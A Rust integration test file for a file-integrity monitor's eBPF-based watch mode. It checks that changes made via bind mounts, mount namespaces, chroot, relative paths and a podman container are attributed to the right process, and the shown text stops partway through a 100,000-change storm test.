//! Watch mode in harder environments, on the real kernel with the real eBPF programs: changes
//! made through a bind-mount alias and from another mount namespace, by relative paths and
//! directory fds, from inside a chroot and from a real podman container; a storm of 100,000
//! changes that must end with every file's final state reported; the watcher's lifecycle
//! (signals, an untrusted baseline, the ready file, the journal across a restart) and a run
//! without privileges. Every change is made by a real child process whose pid or comm the
//! report must name. Root only (CI runs as root); never skipped there.

mod common;

use std::collections::HashMap;
use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::{Mutex, MutexGuard, RwLock, RwLockReadGuard, RwLockWriteGuard};
use std::thread;
use std::time::{Duration, Instant, SystemTime};

use common::podman::{IMAGE, ensure_image, podman};
use common::watch::{REPORT_WITHIN, Watcher, is_change, names, python, run_child, s, watch_cmd};
use common::{BIN, Fixture, Rule, copy_dir, largest_file, run_with_timeout, tool, used_len};
use serde_json::Value;

#[track_caller]
fn root_or_skip() -> bool {
    if !common::is_root() {
        assert!(std::env::var_os("CI").is_none(), "watch tests need root and CI runs as root");
        eprintln!("skipped: needs root");
        return false;
    }
    true
}

// ---------------------------------------------------------------------------------------------
// Private helpers
// ---------------------------------------------------------------------------------------------

/// The storm saturates both cores and the ring buffer: it runs alone, the others share.
static MACHINE: RwLock<()> = RwLock::new(());

fn shared() -> RwLockReadGuard<'static, ()> {
    MACHINE.read().unwrap_or_else(|e| e.into_inner())
}

fn exclusive() -> RwLockWriteGuard<'static, ()> {
    MACHINE.write().unwrap_or_else(|e| e.into_inner())
}

/// Tests whose changes are made by path take turns: their trees share file names, and an
/// event for one tree's name also lands on the other watcher's same-named path (see
/// `a_same_named_file_changed_elsewhere_does_not_take_the_report`).
static PATH_OPS: Mutex<()> = Mutex::new(());

fn path_ops() -> MutexGuard<'static, ()> {
    PATH_OPS.lock().unwrap_or_else(|e| e.into_inner())
}

/// `text` as one single-quoted shell word.
fn q(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// `path` as one single-quoted shell word.
fn qp(path: &Path) -> String {
    q(&s(path))
}

/// `unshare -m` (a private mount namespace: nothing mounted inside leaks out) running `script`
/// in `sh`; unshare and sh exec, so the returned pid is the sh's (and whatever it execs).
#[track_caller]
fn in_mount_ns(script: &str) -> u32 {
    let mut cmd = Command::new("unshare");
    cmd.args(["--mount", "--propagation", "private", "sh", "-c", script]);
    run_child(cmd)
}

/// A report's `process.pid`, `process.ppid`, `process.comm` in one tuple for messages.
fn who(line: &Value) -> (Value, Value, Value) {
    (line["process"]["pid"].clone(), line["process"]["ppid"].clone(), line["process"]["comm"].clone())
}

/// The BLAKE3 of each file, by the b3sum tool (one run per 500 files).
#[track_caller]
fn b3sums(paths: &[PathBuf]) -> Vec<String> {
    let mut out = Vec::with_capacity(paths.len());
    for batch in paths.chunks(500) {
        let mut args = vec!["--no-names".to_owned()];
        args.extend(batch.iter().map(|p| s(p)));
        let run = tool("b3sum", &args);
        out.extend(run.stdout.lines().map(str::to_owned));
    }
    assert_eq!(out.len(), paths.len(), "b3sum printed {} hashes for {} files", out.len(), paths.len());
    out
}

/// Seconds since the epoch of an RFC 3339 UTC time as the watcher prints it
/// (`2025-01-02T03:04:05.678Z`).
#[track_caller]
fn unix_seconds(text: &str) -> f64 {
    parse_rfc3339(text).unwrap_or_else(|| panic!("not an RFC 3339 UTC time: {text:?}"))
}

fn parse_rfc3339(text: &str) -> Option<f64> {
    let (date, time) = text.strip_suffix('Z')?.split_once('T')?;
    let d: Vec<i64> = date.split('-').map(str::parse).collect::<Result<_, _>>().ok()?;
    let (hms, frac) = time.split_once('.').unwrap_or((time, "0"));
    let h: Vec<i64> = hms.split(':').map(str::parse).collect::<Result<_, _>>().ok()?;
    if d.len() != 3 || h.len() != 3 {
        return None;
    }
    // Days from the civil date (Howard Hinnant's algorithm).
    let (y, m) = if d[1] <= 2 { (d[0] - 1, d[1] + 9) } else { (d[0], d[1] - 3) };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * m + 2) / 5 + d[2] - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    let days = era * 146_097 + doe - 719_468;
    let secs = days * 86_400 + h[0] * 3600 + h[1] * 60 + h[2];
    let frac: f64 = format!("0.{frac}").parse().ok()?;
    // Seconds of this era are exact in an f64.
    Some(secs as f64 + frac)
}

#[test]
fn rfc3339_times_parse_to_unix_seconds() {
    assert_eq!(parse_rfc3339("1970-01-01T00:00:01.500Z"), Some(1.5));
    assert_eq!(parse_rfc3339("2000-03-01T00:00:00Z"), Some(951_868_800.0));
    assert_eq!(parse_rfc3339("2024-02-29T23:59:59.250Z"), Some(1_709_251_199.25));
    assert_eq!(parse_rfc3339("2024-02-29 23:59:59Z"), None);
    // The watcher prints its times with humantime: the two must agree on now.
    let now = SystemTime::now();
    let printed = humantime::format_rfc3339_millis(now).to_string();
    let secs = now.duration_since(SystemTime::UNIX_EPOCH).unwrap().as_secs_f64();
    assert!((unix_seconds(&printed) - secs).abs() < 0.002, "{printed} vs {secs}");
}

fn unix_now() -> f64 {
    SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).expect("clock after 1970").as_secs_f64()
}

/// Whether stderr holds the watcher's "ready" line (not a word that contains it).
fn said_ready(stderr: &str) -> bool {
    stderr.lines().any(|l| l.trim() == "ready")
}

/// A watcher started by hand (for signals the harness does not send).
struct Raw {
    child: Child,
    stdout: thread::JoinHandle<String>,
    stderr: thread::JoinHandle<String>,
}

fn drain(mut pipe: impl Read + Send + 'static) -> thread::JoinHandle<String> {
    thread::spawn(move || {
        let mut bytes = Vec::new();
        let _ = pipe.read_to_end(&mut bytes);
        String::from_utf8_lossy(&bytes).into_owned()
    })
}

impl Raw {
    #[track_caller]
    fn spawn(mut cmd: Command) -> Raw {
        cmd.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = cmd.spawn().expect("spawn kubefim watch");
        let stdout = drain(child.stdout.take().expect("piped stdout"));
        let stderr = drain(child.stderr.take().expect("piped stderr"));
        Raw { child, stdout, stderr }
    }

    /// Sends `signal`, waits up to 20 s for the exit; returns the status, stdout, stderr.
    #[track_caller]
    fn signal_and_wait(mut self, signal: rustix::process::Signal) -> (ExitStatus, String, String) {
        let pid = rustix::process::Pid::from_raw(i32::try_from(self.child.id()).unwrap()).unwrap();
        rustix::process::kill_process(pid, signal).expect("signal the watcher");
        let deadline = Instant::now() + Duration::from_secs(20);
        let status = loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                break status;
            }
            if Instant::now() > deadline {
                let _ = self.child.kill();
                let _ = self.child.wait();
                let (out, err) = (self.stdout.join().unwrap(), self.stderr.join().unwrap());
                panic!(
                    "kubefim watch did not exit within 20 s of {signal:?}\n--- stdout ---\n{out}\n--- stderr ---\n{err}"
                );
            }
            thread::sleep(Duration::from_millis(20));
        };
        (status, self.stdout.join().unwrap(), self.stderr.join().unwrap())
    }
}

/// Waits until `path` exists (the watcher is ready); panics with the output if it exits.
#[track_caller]
fn wait_ready(raw: Raw, path: &Path) -> Raw {
    let deadline = Instant::now() + common::watch::READY_WITHIN;
    let mut raw = raw;
    while !path.exists() {
        let exited = raw.child.try_wait().unwrap();
        if exited.is_some() || Instant::now() > deadline {
            let _ = raw.child.kill();
            let status = raw.child.wait().unwrap();
            let (out, err) = (raw.stdout.join().unwrap(), raw.stderr.join().unwrap());
            panic!("kubefim watch not ready ({status})\n--- stdout ---\n{out}\n--- stderr ---\n{err}");
        }
        thread::sleep(Duration::from_millis(10));
    }
    raw
}

/// Asserts a watcher run that must refuse to start: exit `code`, no "ready", no ready file,
/// nothing on stdout, no panic, and stderr containing one of `words` (case-insensitive).
#[track_caller]
fn assert_refused(fx: &Fixture, run: &common::Run, code: i32, words: &[&str]) {
    run.expect_code(code);
    assert!(!said_ready(&run.stderr), "said ready and then exited {code}\n{}", run.dump());
    assert!(!fx.path("ready").exists(), "wrote the ready file and then exited {code}\n{}", run.dump());
    assert!(run.stdout.trim().is_empty(), "printed reports though it never started\n{}", run.dump());
    assert!(!run.stderr.contains("panicked"), "panicked instead of an error message\n{}", run.dump());
    let lower = run.stderr.to_lowercase();
    assert!(
        words.iter().any(|w| lower.contains(&w.to_lowercase())),
        "the message names none of {words:?}\n{}",
        run.dump()
    );
}

/// The pid of the `kubefim watch` running on `fx`'s database.
#[track_caller]
fn watcher_pid(fx: &Fixture) -> rustix::process::Pid {
    let db = s(&fx.db());
    for entry in fs::read_dir("/proc").unwrap().filter_map(Result::ok) {
        let Some(pid) = entry.file_name().to_str().and_then(|n| n.parse::<i32>().ok()) else { continue };
        let Ok(cmdline) = fs::read(entry.path().join("cmdline")) else { continue };
        let args: Vec<&[u8]> = cmdline.split(|&b| b == 0).collect();
        if args.first() == Some(&BIN.as_bytes()) && args.contains(&&b"watch"[..]) && args.contains(&db.as_bytes()) {
            return rustix::process::Pid::from_raw(pid).expect("pid > 0");
        }
    }
    panic!("no kubefim watch on {db} in /proc");
}

/// A child killed (and reaped) when the test is done with it, or panics.
struct KillOnDrop(Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// A watcher stopped with SIGSTOP (continued on `resume` or drop): the kernel side keeps
/// queueing events, the user side is as far behind as a test needs.
struct Paused(rustix::process::Pid);

impl Paused {
    #[track_caller]
    fn new(fx: &Fixture) -> Paused {
        let pid = watcher_pid(fx);
        rustix::process::kill_process(pid, rustix::process::Signal::STOP).expect("SIGSTOP the watcher");
        let stat = format!("/proc/{}/stat", pid.as_raw_nonzero());
        let deadline = Instant::now() + Duration::from_secs(5);
        loop {
            let text = fs::read_to_string(&stat).unwrap_or_default();
            let state = text.rsplit_once(") ").and_then(|(_, rest)| rest.chars().next());
            if state == Some('T') {
                return Paused(pid);
            }
            assert!(Instant::now() < deadline, "the watcher did not stop: {text}");
            thread::sleep(Duration::from_millis(5));
        }
    }

    fn resume(self) {}
}

impl Drop for Paused {
    fn drop(&mut self) {
        let _ = rustix::process::kill_process(self.0, rustix::process::Signal::CONT);
    }
}

/// Asserts the reports of a monitored directory whose entries were removed or renamed: the
/// latest names its current mtime (no change of it went unreported), and together they name
/// the operations that changed it (its own: ops of its entries that do not change a
/// directory, such as a chmod, are its entries').
#[track_caller]
fn assert_dir_report(w: &Watcher, dir: &Path, ops: &[&str]) {
    use std::os::unix::fs::MetadataExt;
    let meta = fs::metadata(dir).unwrap();
    let mtime = u64::try_from(meta.mtime()).unwrap() * 1_000_000_000 + u64::try_from(meta.mtime_nsec()).unwrap();
    let want_path = s(dir);
    w.wait_for(&format!("{want_path} at its current mtime {mtime}"), REPORT_WITHIN, |l| {
        is_change(l) && l["path"] == want_path.as_str() && l["new"]["mtime"] == mtime
    });
    let reports = w.changes_for(dir);
    let got: Vec<String> = reports.iter().flat_map(|l| names(l, "ops")).collect();
    for op in ops {
        assert!(got.iter().any(|g| g == op), "no {op} in the ops of the directory {want_path}: {got:?}\n{}", w.dump());
    }
}

// ---------------------------------------------------------------------------------------------
// 1-2: bind-mount aliases and other mount namespaces
// ---------------------------------------------------------------------------------------------

#[test]
fn write_through_a_bind_mount_alias_is_reported_under_the_monitored_path() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    fs::write(fx.t("conf.txt"), "alpha\n").unwrap();
    let alias = fx.path("alias");
    fs::create_dir(&alias).unwrap();
    let w = Watcher::start(&fx, None);
    let code = format!("f = open({:?}, 'a'); f.write('via alias\\n'); f.close()", s(&alias.join("conf.txt")));
    let pid = in_mount_ns(&format!("mount --bind {} {} && exec python3 -c {}", qp(&fx.tree()), qp(&alias), q(&code)));
    let line = w.change_for(&fx.t("conf.txt"));
    assert_eq!(line["kind"], "modified", "{line:#}\n{}", w.dump());
    assert_eq!(names(&line, "ops"), ["write"], "{line:#}\n{}", w.dump());
    assert_eq!(line["process"]["pid"], pid, "writer {pid}, reported {:?}\n{}", who(&line), w.dump());
    assert_eq!(line["process"]["comm"], "python3", "{line:#}");
    assert!(line["diff"].as_str().is_some_and(|d| d.contains("\n+via alias\n")), "{line:#}");
    assert_eq!(line["detected_by"], "event", "{line:#}");
    // The alias is no monitored path: nothing may be reported under it, and the mount stayed
    // in its namespace.
    w.assert_nothing_under(&alias, Duration::from_millis(300));
    assert!(fs::read_dir(&alias).unwrap().next().is_none(), "the bind mount leaked out of its namespace");
    assert_eq!(w.changes_for(&fx.t("conf.txt")).len(), 1, "one write, one report\n{}", w.dump());
    assert!(w.stop().success());
}

/// A tree for the namespace tests, and `view`, where the namespace will see it.
fn namespace_fixture() -> (Fixture, PathBuf) {
    let fx = Fixture::on_disk();
    for name in ["conf.txt", "gone.txt", "a.txt", "f.txt"] {
        fs::write(fx.t(name), format!("{name}\n")).unwrap();
    }
    common::chmod(&fx.t("f.txt"), 0o644);
    let view = fx.path("view");
    fs::create_dir(&view).unwrap();
    (fx, view)
}

/// The start of a namespace script: the tree bound at `view`, and its own path covered by an
/// empty tmpfs (so there a write to TREE/conf.txt lands in the tmpfs, not in the tree).
fn view_only(fx: &Fixture, view: &Path) -> String {
    let (tree, v) = (qp(&fx.tree()), qp(view));
    format!("mount --bind {tree} {v} && mount -t tmpfs kubefim-shadow {tree} && echo shadow > {tree}/conf.txt")
}

/// Checks the reports of the namespace scenario: gone.txt unlinked, a.txt renamed to b.txt,
/// f.txt chmod 600, each by an actor `by` accepts; nothing for the tmpfs write, nothing under
/// `view`.
#[track_caller]
fn assert_namespace_reports(w: &Watcher, fx: &Fixture, view: &Path, by: &dyn Fn(&Value, &str)) {
    let removed = w.change_for(&fx.t("gone.txt"));
    assert_eq!(removed["kind"], "removed", "{removed:#}\n{}", w.dump());
    assert_eq!(names(&removed, "ops"), ["unlink"], "{removed:#}\n{}", w.dump());
    by(&removed, "rm");

    let renamed = w.change_for(&fx.t("a.txt"));
    assert_eq!(renamed["kind"], "renamed", "{renamed:#}\n{}", w.dump());
    assert_eq!(renamed["to"], s(&fx.t("b.txt")), "{renamed:#}\n{}", w.dump());
    assert_eq!(names(&renamed, "ops"), ["rename"], "{renamed:#}\n{}", w.dump());
    by(&renamed, "mv");

    let chmod = w.change_for(&fx.t("f.txt"));
    assert_eq!(chmod["kind"], "modified", "{chmod:#}\n{}", w.dump());
    assert!(names(&chmod, "changed").contains(&"mode".to_owned()), "{chmod:#}");
    assert_eq!(names(&chmod, "ops"), ["chmod"], "{chmod:#}\n{}", w.dump());
    assert_eq!(chmod["new"]["mode"].as_u64().map(|m| m & 0o7777), Some(0o600), "{chmod:#}");
    by(&chmod, "chmod");

    // The write that went to the tmpfs over the tree's path changed nothing monitored; the
    // rename is one report, not a removal and an addition; no path of the view is reported.
    assert_dir_report(w, &fx.tree(), &["unlink", "rename"]);
    thread::sleep(Duration::from_millis(300));
    assert!(w.changes_for(&fx.t("conf.txt")).is_empty(), "tmpfs write reported as the tree's\n{}", w.dump());
    assert!(w.changes_for(&fx.t("b.txt")).is_empty(), "the rename's target reported on its own\n{}", w.dump());
    w.assert_nothing_under(view, Duration::ZERO);
    assert_eq!(fs::read_to_string(fx.t("conf.txt")).unwrap(), "conf.txt\n", "the tmpfs leaked out");
}

#[test]
fn path_ops_from_another_mount_namespace_are_reported_under_the_monitored_paths() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    let (fx, view) = namespace_fixture();
    let w = Watcher::start(&fx, None);
    // One process does it all, says so, and lives on: its root and mounts are there to see
    // when the watcher (stopped until then, so it meets all the events at once) looks.
    let done = fx.path("ops-done");
    let code = format!(
        "import os, time\nos.unlink({gone:?})\nos.rename({a:?}, {b:?})\nos.chmod({f:?}, 0o600)\n\
         open({done:?}, 'w').close()\ntime.sleep(30)\n",
        gone = s(&view.join("gone.txt")),
        a = s(&view.join("a.txt")),
        b = s(&view.join("b.txt")),
        f = s(&view.join("f.txt")),
        done = s(&done),
    );
    let paused = Paused::new(&fx);
    let mut cmd = Command::new("unshare");
    cmd.args(["--mount", "--propagation", "private", "sh", "-c"])
        .arg(format!("{} && exec python3 -c {}", view_only(&fx, &view), q(&code)))
        .stdin(Stdio::null());
    let actor = KillOnDrop(cmd.spawn().expect("spawn unshare"));
    let pid = actor.0.id();
    let deadline = Instant::now() + Duration::from_secs(10);
    while !done.exists() {
        assert!(Instant::now() < deadline, "the namespace's python did not get its work done");
        thread::sleep(Duration::from_millis(10));
    }
    paused.resume();
    assert_namespace_reports(&w, &fx, &view, &|line, _| {
        assert_eq!(line["process"]["pid"], pid, "python {pid}, reported {:?}\n{}", who(line), w.dump());
        assert_eq!(line["process"]["comm"], "python3", "{line:#}");
    });
    drop(actor);
    assert!(w.stop().success());
}

#[test]
fn path_ops_from_another_mount_namespace_by_processes_gone_before_the_watcher_looks() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    let (fx, view) = namespace_fixture();
    let w = Watcher::start(&fx, None);
    // A watcher that is behind (here: stopped) meets events whose actors, and with them their
    // roots and mount namespaces, are gone.
    let paused = Paused::new(&fx);
    let pid = in_mount_ns(&format!(
        "{} && rm {gone} && mv {a} {b} && chmod 600 {f} && true",
        view_only(&fx, &view),
        gone = qp(&view.join("gone.txt")),
        a = qp(&view.join("a.txt")),
        b = qp(&view.join("b.txt")),
        f = qp(&view.join("f.txt")),
    ));
    paused.resume();
    // Each tool is a child of the namespace's sh, which has the unshare child's pid.
    assert_namespace_reports(&w, &fx, &view, &|line, comm| {
        assert_eq!(line["process"]["comm"], comm, "{line:#}\n{}", w.dump());
        assert_eq!(line["process"]["ppid"], pid, "{comm}'s parent is {pid}: {:?}\n{}", who(line), w.dump());
    });
    assert!(w.stop().success());
}

#[test]
fn absolute_path_ops_of_host_processes_gone_before_the_watcher_looks_are_exact() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    fs::write(fx.t("mode.txt"), "alpha\n").unwrap();
    fs::write(fx.t("gone.txt"), "beta\n").unwrap();
    let w = Watcher::start(&fx, None);
    // The actors exit before the watcher looks at their paths; the events name their root
    // directory and mount namespace, which are the host's: their absolute paths are resolved
    // as they meant them, exactly.
    let paused = Paused::new(&fx);
    let mut chmod = Command::new("chmod");
    chmod.arg("600").arg(fx.t("mode.txt"));
    let chmod = run_child(chmod);
    let mut rm = Command::new("rm");
    rm.arg(fx.t("gone.txt"));
    let rm = run_child(rm);
    paused.resume();
    for (path, kind, pid, comm, op) in
        [(fx.t("mode.txt"), "modified", chmod, "chmod", "chmod"), (fx.t("gone.txt"), "removed", rm, "rm", "unlink")]
    {
        let line = w.change_for(&path);
        assert_eq!(line["kind"], kind, "{line:#}");
        assert_eq!((&line["process"]["pid"], &line["process"]["comm"]), (&pid.into(), &comm.into()), "{line:#}");
        assert_eq!(names(&line, "ops"), [op], "{line:#}");
        assert_eq!(line["attribution"], "exact", "{line:#}\n{}", w.dump());
    }
    assert!(w.stop().success());
}

// ---------------------------------------------------------------------------------------------
// 3-4: relative paths, directory fds, chroot
// ---------------------------------------------------------------------------------------------

/// Relative paths from the cwd (with `..` through the tree's own name) and from a directory
/// fd; with `behind`, the watcher is stopped until every actor has exited.
fn relative_paths(behind: bool) {
    let fx = Fixture::on_disk();
    fs::create_dir(fx.t("sub")).unwrap();
    for name in ["f", "sub/x", "sub/y", "sub/z"] {
        fs::write(fx.t(name), format!("{name}\n")).unwrap();
    }
    common::chmod(&fx.t("f"), 0o644);
    common::chmod(&fx.t("sub/y"), 0o644);
    let w = Watcher::start(&fx, None);
    let paused = behind.then(|| Paused::new(&fx));

    let mut chmod = Command::new("chmod");
    chmod.args(["600", "./f"]).current_dir(fx.tree());
    let chmod_pid = run_child(chmod);
    let mut rm = Command::new("rm");
    rm.arg("../tree/sub/x").current_dir(fx.tree());
    let rm_pid = run_child(rm);
    // Relative to a directory fd (the *at() calls), from a process whose cwd is elsewhere.
    let code = format!(
        "import os\nos.chdir('/')\nd = os.open({:?}, os.O_RDONLY | os.O_DIRECTORY)\n\
         os.chmod('y', 0o600, dir_fd=d)\nos.rename('z', 'z2', src_dir_fd=d, dst_dir_fd=d)\nos.close(d)\n",
        s(&fx.t("sub"))
    );
    let py = python(&code);
    drop(paused);

    let line = w.change_for(&fx.t("f"));
    assert_eq!(line["kind"], "modified", "{line:#}\n{}", w.dump());
    assert_eq!(names(&line, "ops"), ["chmod"], "{line:#}\n{}", w.dump());
    assert_eq!(line["new"]["mode"].as_u64().map(|m| m & 0o7777), Some(0o600), "{line:#}");
    assert_eq!(line["process"]["pid"], chmod_pid, "chmod {chmod_pid}, reported {:?}\n{}", who(&line), w.dump());
    assert_eq!(line["process"]["comm"], "chmod");

    let line = w.change_for(&fx.t("sub/x"));
    assert_eq!(line["kind"], "removed", "{line:#}\n{}", w.dump());
    assert_eq!(names(&line, "ops"), ["unlink"], "{line:#}\n{}", w.dump());
    assert_eq!(line["process"]["pid"], rm_pid, "rm {rm_pid}, reported {:?}\n{}", who(&line), w.dump());
    assert_eq!(line["process"]["comm"], "rm");

    let line = w.change_for(&fx.t("sub/y"));
    assert_eq!(names(&line, "ops"), ["chmod"], "{line:#}\n{}", w.dump());
    assert_eq!(line["new"]["mode"].as_u64().map(|m| m & 0o7777), Some(0o600), "{line:#}");
    assert_eq!(line["process"]["pid"], py, "python {py}, reported {:?}\n{}", who(&line), w.dump());
    let line = w.change_for(&fx.t("sub/z"));
    assert_eq!(line["kind"], "renamed", "{line:#}\n{}", w.dump());
    assert_eq!(line["to"], s(&fx.t("sub/z2")), "{line:#}\n{}", w.dump());
    assert_eq!(names(&line, "ops"), ["rename"], "{line:#}\n{}", w.dump());
    assert_eq!(line["process"]["pid"], py, "python {py}, reported {:?}\n{}", who(&line), w.dump());
    assert!(w.changes_for(&fx.t("sub/z2")).is_empty(), "the rename's target reported on its own\n{}", w.dump());
    assert_dir_report(&w, &fx.t("sub"), &["unlink", "rename"]);
    assert!(w.stop().success());
}

#[test]
fn relative_path_changes_are_reported_under_the_monitored_paths() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    relative_paths(false);
}

#[test]
fn relative_path_changes_by_processes_gone_before_the_watcher_looks() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    relative_paths(true);
}

/// Changes from inside a chroot where the tree is `/tree`; with `behind`, the watcher is
/// stopped until the process has exited.
fn chroot(behind: bool) {
    let fx = Fixture::on_disk();
    for name in ["f", "conf.txt", "old.txt"] {
        fs::write(fx.t(name), format!("{name}\n")).unwrap();
    }
    common::chmod(&fx.t("f"), 0o644);
    let w = Watcher::start(&fx, None);
    let paused = behind.then(|| Paused::new(&fx));
    // Inside the chroot the tree is /tree: an absolute path that names nothing outside it.
    let code = format!(
        "import os\nos.chroot({:?})\nos.chdir('/')\nos.chmod('/tree/f', 0o600)\n\
         f = open('/tree/conf.txt', 'a'); f.write('from the chroot\\n'); f.close()\n\
         os.rename('/tree/old.txt', '/tree/new.txt')\n",
        s(fx.root.path())
    );
    let pid = python(&code);
    drop(paused);
    for (rel, kind, ops) in
        [("f", "modified", "chmod"), ("conf.txt", "modified", "write"), ("old.txt", "renamed", "rename")]
    {
        let line = w.change_for(&fx.t(rel));
        assert_eq!(line["kind"], kind, "{rel}: {line:#}\n{}", w.dump());
        assert_eq!(names(&line, "ops"), [ops], "{rel}: {line:#}\n{}", w.dump());
        assert_eq!(line["process"]["pid"], pid, "{rel}: python {pid}, reported {:?}\n{}", who(&line), w.dump());
        assert_eq!(line["process"]["comm"], "python3", "{rel}: {line:#}");
    }
    assert_eq!(w.change_for(&fx.t("old.txt"))["to"], s(&fx.t("new.txt")), "{}", w.dump());
    assert_eq!(w.change_for(&fx.t("f"))["new"]["mode"].as_u64().map(|m| m & 0o7777), Some(0o600));
    assert!(w.changes_for(&fx.t("new.txt")).is_empty(), "the rename's target reported on its own\n{}", w.dump());
    assert_dir_report(&w, &fx.tree(), &["rename"]);
    assert!(w.stop().success());
}

#[test]
fn changes_inside_a_chroot_are_reported_under_the_real_paths() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    chroot(false);
}

#[test]
fn changes_inside_a_chroot_by_a_process_gone_before_the_watcher_looks() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    chroot(true);
}

#[test]
fn a_same_named_file_changed_elsewhere_does_not_take_the_report() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    let fx = Fixture::on_disk();
    fs::write(fx.t("f"), "f\n").unwrap();
    common::chmod(&fx.t("f"), 0o644);
    let elsewhere = fx.path("elsewhere");
    fs::create_dir(&elsewhere).unwrap();
    fs::write(elsewhere.join("f"), "not monitored\n").unwrap();
    let w = Watcher::start(&fx, None);
    // The monitored file and, a moment later, an unmonitored file of the same name in another
    // directory are chmodded by two processes before the watcher gets to either event.
    let paused = Paused::new(&fx);
    let mut ours = Command::new("chmod");
    ours.arg("600").arg(fx.t("f"));
    let ours = run_child(ours);
    let mut theirs = Command::new("chmod");
    theirs.args(["600", "./f"]).current_dir(&elsewhere);
    let theirs = run_child(theirs);
    paused.resume();
    let line = w.change_for(&fx.t("f"));
    assert_eq!(names(&line, "ops"), ["chmod"], "{line:#}");
    assert_eq!(
        line["process"]["pid"],
        ours,
        "chmod of the monitored file {ours}, of the other one {theirs}; reported {:?}\n{}",
        who(&line),
        w.dump()
    );
    assert_eq!(w.changes_for(&fx.t("f")).len(), 1, "{}", w.dump());
    assert!(w.stop().success());
}

// ---------------------------------------------------------------------------------------------
// 5: a real container
// ---------------------------------------------------------------------------------------------

#[test]
fn write_from_a_podman_container_names_the_container() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    ensure_image();
    let fx = Fixture::on_disk();
    fs::write(fx.t("conf.txt"), "alpha\n").unwrap();
    let w = Watcher::start(&fx, None);
    let cidfile = fx.path("cid");
    let mut run = podman();
    run.args(["run", "--rm", "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1000:1000", "--cidfile"])
        .arg(&cidfile)
        .arg("-v")
        .arg(format!("{}:/data", s(&fx.tree())))
        .args([IMAGE, "/bin/sh", "-c", "echo from-the-container >> /data/conf.txt"]);
    run_child(run);
    let cid = fs::read_to_string(&cidfile).expect("podman wrote no cidfile").trim().to_owned();
    assert_eq!(cid.len(), 64, "cidfile holds {cid:?}");
    let line = w.wait_for("the container's write", Duration::from_secs(5), |l| {
        is_change(l) && l["path"] == s(&fx.t("conf.txt")).as_str()
    });
    assert_eq!(line["kind"], "modified", "{line:#}\n{}", w.dump());
    assert_eq!(names(&line, "ops"), ["write"], "{line:#}\n{}", w.dump());
    assert_eq!(line["process"]["comm"], "sh", "{line:#}\n{}", w.dump());
    assert_eq!(line["container"]["id"], cid.as_str(), "{line:#}\n{}", w.dump());
    assert_eq!(line["container"]["runtime"], "podman", "{line:#}");
    assert!(line["container"]["cgroup"].as_str().is_some_and(|c| c.contains(&cid)), "{line:#}");
    assert!(line["diff"].as_str().is_some_and(|d| d.contains("\n+from-the-container\n")), "{line:#}");
    assert_eq!(w.changes_for(&fx.t("conf.txt")).len(), 1, "one write, one report\n{}", w.dump());
    assert!(w.stop().success());
}

// ---------------------------------------------------------------------------------------------
// 6: the storm
// ---------------------------------------------------------------------------------------------

#[test]
fn storm_of_100k_changes_ends_with_every_final_state_reported() {
    if !root_or_skip() {
        return;
    }
    let _machine = exclusive();
    const FILES: usize = 1000;
    const CHANGES: usize = 100_000;
    const RESTORED: usize = 10;
    let fx = Fixture::on_disk();
    let paths: Vec<PathBuf> = (0..FILES).map(|i| fx.t(format!("d{}/f{i:04}.txt", i % 10))).collect();
    for d in 0..10 {
        fs::create_dir(fx.t(format!("d{d}"))).unwrap();
    }
    for (i, p) in paths.iter().enumerate() {
        fs::write(p, format!("file {i}\n")).unwrap();
    }
    // No atime updates: the b3sum reads below must not dirty the inodes while reports are
    // pending (a reader is then named as the writer: see the test after this one).
    tool("chattr", ["-R".to_owned(), "+A".to_owned(), s(&fx.tree())]);
    let baseline = b3sums(&paths);
    let w = Watcher::start(&fx, None);

    // Round robin appends (write + close), a truncate every 997 changes, and at the end the
    // first RESTORED files get their baseline content back.
    let code = format!(
        "import os, sys\n\
         root = sys.argv[1]\n\
         paths = [os.path.join(root, 'd%d' % (i % 10), 'f%04d.txt' % i) for i in range({FILES})]\n\
         for n in range({CHANGES}):\n\
         \x20   p = paths[n % {FILES}]\n\
         \x20   if n % 997 == 0:\n\
         \x20       os.truncate(p, 0)\n\
         \x20   else:\n\
         \x20       f = open(p, 'a'); f.write('change %d\\n' % n); f.close()\n\
         for i in range({RESTORED}):\n\
         \x20   f = open(paths[i], 'w'); f.write('file %d\\n' % i); f.close()\n"
    );
    let started = Instant::now();
    let mut cmd = Command::new("python3");
    cmd.arg("-c").arg(&code).arg(fx.tree());
    let writer = run_child(cmd);
    let storm = started.elapsed();
    let writer_end = unix_now();
    let finals = b3sums(&paths);
    for (i, (now, signed)) in finals.iter().zip(&baseline).take(RESTORED).enumerate() {
        assert_eq!(now, signed, "file {i} was not restored");
    }

    // Every file whose final content differs from the baseline: its latest change report
    // names the final hash, or a rescan that began after the writer exited (after lost
    // events) covered it. Restored files: if reported, the latest report matches the
    // baseline again.
    let check = |lines: &[Value]| -> Vec<String> {
        let mut latest: HashMap<&str, &Value> = HashMap::new();
        for l in lines.iter().filter(|l| is_change(l)) {
            if let Some(p) = l["path"].as_str() {
                latest.insert(p, l);
            }
        }
        let mut lost_seen = false;
        let mut rescan_after = false;
        for l in lines {
            match l["kind"].as_str() {
                Some("lost") => lost_seen = true,
